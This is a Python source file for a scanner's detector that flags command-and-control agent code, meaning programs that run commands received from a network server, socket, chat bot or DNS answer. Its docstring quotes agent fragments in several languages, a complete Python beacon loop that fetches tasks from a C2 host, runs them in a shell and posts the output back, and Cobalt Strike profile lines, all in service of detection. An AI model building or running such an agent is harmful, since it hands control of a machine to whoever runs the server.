"""OUT-C2-AGENT: a program that takes its commands from a remote server, socket or chat.

What it catches
    Code that reads data from the network (an HTTP poll of a server, a socket read, a chat
    bot's incoming message) and hands that data, by whatever names it passes through, to a
    command or code runner as the command itself: `job = irm $srv/next; iex $job.command`,
    `for task in poll(): subprocess.run(task["cmd"], shell=True)`, `recv(s, buf, ...);
    _popen(buf, "r")`, a DNS TXT answer (`Resolve-DnsName -Type TXT`, `dns.resolver.resolve(name,
    "TXT")`) run as a command, through helper functions that return what they fetched (PowerShell's
    `function Get-Task { ... return $r }` ... `iex (Get-Task)` too), and in C through the
    buffers helpers fill (`InternetReadFile(r, out, ...)` in a helper handed `task`) and the
    command lines formatted from them (`snprintf(line, n, "cmd.exe /c %s", cmd);
    CreateProcessA(NULL, line, ...)`, `c_functions.py`), and in PHP through the reads of a
    socket it opened (`stream_get_contents($conn)`, `fgets($sock)`, `socket_read($socket, ...)`),
    and in Perl through a socket's lines or reads (`while (my $line = <$sock>)`,
    `$irc->recv($buf, 4096)`) and the groups a match of them captures (`$line =~ /!exec
    (.*)/` ... `` `$1` ``, `my ($cmd, $arg) = ($1, $2)`): an IRC bot taking `!exec` orders.
    The flow is followed across lines and
    variables (`flows.py`). With a channel back (results posted, sent on the socket, to a
    webhook or by mail, a bot's reply, a broker publish), a polling loop, a detached run
    (`screen -dm`, `nohup`) or a server found through a domain generation algorithm (the day's
    names computed from the date, hashed into letters and given top-level domains, T1568.002)
    it is a remote-access agent; the flow alone is part of one. A program that connects and
    speaks to the day's generated names in turn (a socket's greeting, or web requests retried
    in a loop until one answers) is the same agent's way home, whatever it does once there.
    Part of one: a C2 server's traffic profile written out in its grammar (Cobalt Strike's
    malleable profile: `metadata { base64url; prepend "MUID="; header "Cookie"; }`, `set
    sleeptime "45000";`), weighed with the request.

Why it is a redline (RL-PERSISTENCE)
    A command-and-control agent gives whoever runs the server control of the machine: the
    beacon, RAT or bot at the centre of an intrusion.

Example
    `while True: for t in requests.get(C2 + "/tasks").json(): out = subprocess.run(t["cmd"],
    shell=True, capture_output=True); requests.post(C2 + "/out", data=out.stdout)`

Allowed instead
    Clients that fetch data and act on it with fixed commands (a deploy hook that runs `git
    pull` when notified, a chat bot answering `/status` with a fixed report, an updater passing
    a fetched version to its installer as an argument, an updater running the installer it
    downloaded once its signature checks out: `crypto.verify`, Authenticode, gpg, minisign), a
    job runner choosing among a table of named tasks, explaining how C2 traffic is detected
    (a detection rule quoting one line of a profile).
    A family's generated names computed to register or sinkhole them, or resolved only to see
    which are live, with no connection to them.
"""

from __future__ import annotations

from redline.redlines.capabilities import Capabilities
from redline.redlines.capabilities import Capability as Cap
from redline.redlines.registry import IN_A_RESPONSE, Detection, detector, pieces, supported

_BACK = (Cap.NET_SEND, Cap.NET_CONNECT, Cap.WEBHOOK, Cap.PACKET_SEND, Cap.MAIL_SEND, Cap.TEXT_SEND)
# Ways of staying at work for the server: a loop, a pause between polls, hiding, autostart, a
# detached run (an agent left running after the session that started it has ended), and a
# server found through generated domain names.
_POLLING = (
    Cap.ENDLESS_LOOP,
    Cap.PAUSE,
    Cap.JITTER,
    Cap.HIDE,
    Cap.AUTORUN,
    Cap.BACKGROUND,
    Cap.DOMAIN_GENERATION,
)
_HOMING = (Cap.DOMAIN_GENERATION, Cap.NET_CONNECT, Cap.PACKET_SEND)
"""Generated domain names tried over a connection that greets them: the way back to a server."""


PROFILE_STATEMENTS = 2
"""Statements of a C2 profile's grammar (a data block's encoding step, a beacon's setting) that
make a profile written out rather than one line quoted."""


@detector("OUT-C2-AGENT", redline="RL-PERSISTENCE")
def c2_agent(found: Capabilities) -> Detection | None:
    """Network input run as a command, with a channel back or a polling loop."""
    if Cap.REMOTE_COMMAND not in found:
        if found.has_all(*_HOMING):
            # The day's generated names tried one by one and greeted over a connection: the
            # agent's way back to a server whose names are registered a day at a time.
            return supported(
                found,
                0.75,
                _HOMING,
                "connects to its server among the day's generated domain names",
            )
        retried = [c for c in (Cap.ENDLESS_LOOP, Cap.PAUSE) if c in found]
        if found.has_all(Cap.DOMAIN_GENERATION, Cap.DOWNLOAD) and retried:
            # The day's generated names asked over the web in turn, again and again until one
            # answers: the same way home, spoken over HTTP.
            asked = (Cap.DOMAIN_GENERATION, Cap.DOWNLOAD, *retried)
            return supported(
                found, 0.75, asked, "asks the day's generated domain names for its server"
            )
        if found.distinct(Cap.C2_TRAFFIC_PROFILE) >= PROFILE_STATEMENTS:
            # A C2 server's profile written out: how its beacons' traffic is dressed, part of
            # the agent the request may ask to pass a proxy or a network's monitoring.
            return supported(
                found,
                IN_A_RESPONSE,
                (Cap.C2_TRAFFIC_PROFILE,),
                "a C2 server's traffic profile (malleable C2)",
            )
        return None
    back = [c for c in _BACK if c in found]
    polling = [c for c in _POLLING if c in found]
    if Cap.SIGNATURE_CHECKED in found and Cap.WEBHOOK not in found:
        # What it fetched runs only once its signature checks out against the publisher's
        # key: an updater installing its own release. Part of an agent at most.
        checked = (Cap.REMOTE_COMMAND, Cap.SIGNATURE_CHECKED)
        return supported(found, 0.45, checked, "runs what it fetched once its signature checks out")
    if back or polling:
        core = (Cap.REMOTE_COMMAND, *back, *polling)
        return supported(found, 0.85 if back else 0.75, core, pieces(*core))
    return supported(found, 0.5, (Cap.REMOTE_COMMAND,), Cap.REMOTE_COMMAND.value)
